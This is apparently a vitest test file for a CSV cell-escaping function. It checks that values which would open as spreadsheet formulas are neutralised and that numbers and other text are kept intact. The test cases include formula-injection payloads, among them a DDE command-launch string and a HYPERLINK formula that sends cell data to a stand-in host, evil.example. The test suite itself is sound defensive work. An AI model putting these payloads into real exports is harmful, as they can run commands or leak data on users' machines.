import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from './text.ts';

const read = (cells: (string | number)[]): string[] =>
  parse(`${cells.map(csvCell).join(',')}\r\n`, { relax_column_count: true })[0] ?? [];

describe('a cell of a CSV file', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example?"&A1)', '\'=HYPERLINK("http://evil.example?"&A1)'],
    ['+1+1', "'+1+1"],
    ['-2+3+cmd', "'-2+3+cmd"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\n=1+1', "'\n=1+1"],
    ['＝1+1', "'＝1+1"],
    ['－1＋cmd', "'－1＋cmd"],
    ['- 客户要求退货', "'- 客户要求退货"],
  ])('%j opens as the text %j', (value, opened) => {
    expect(read([value])).toEqual([opened]);
  });

  it.each([
    '-5',
    '-12.5',
    '0',
    '100',
    '3.14',
    '13800000001',
    '客户说=1+1',
    '5.2.1',
    '2026-03-02',
    'TS2026-000001',
  ])('%s stays as it is', (value) => {
    expect(read([value])).toEqual([value]);
  });

  it.each([
    '0075',
    '+8613800000001',
    '1234567890123456789',
    '1234567890123456788',
    '2.10',
    '12E3',
    '50%',
    '1,000',
  ])('%s keeps every sign of it, as text', (value) => {
    expect(read([value])).toEqual([`\t${value}`]);
  });

  it('a number counts, whatever its sign', () => {
    expect(read([-1250.5, 0, 1_234_567_890_123])).toEqual(['-1250.5', '0', '1234567890123']);
  });

  it('separators of other countries do not cut it', () => {
    expect([csvCell('a;=1+1'), csvCell('a,b'), csvCell('a"b'), csvCell('a\tb')]).toEqual([
      '"a;=1+1"',
      '"a,b"',
      '"a""b"',
      '"a\tb"',
    ]);
  });

  it('nothing is lost, and no text begins a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary', maxLength: 12 }), { minLength: 1, maxLength: 4 }),
        (cells) => {
          const opened = read([...cells, 'end']);
          expect(opened.slice(0, -1).map((cell, place) => cell.endsWith(cells[place] ?? ''))).toEqual(
            cells.map(() => true),
          );
          for (const cell of opened) expect(cell).not.toMatch(/^[=@＝＠]|^[+\-＋－](?![\d.,]*$)/);
        },
      ),
    );
  });
});
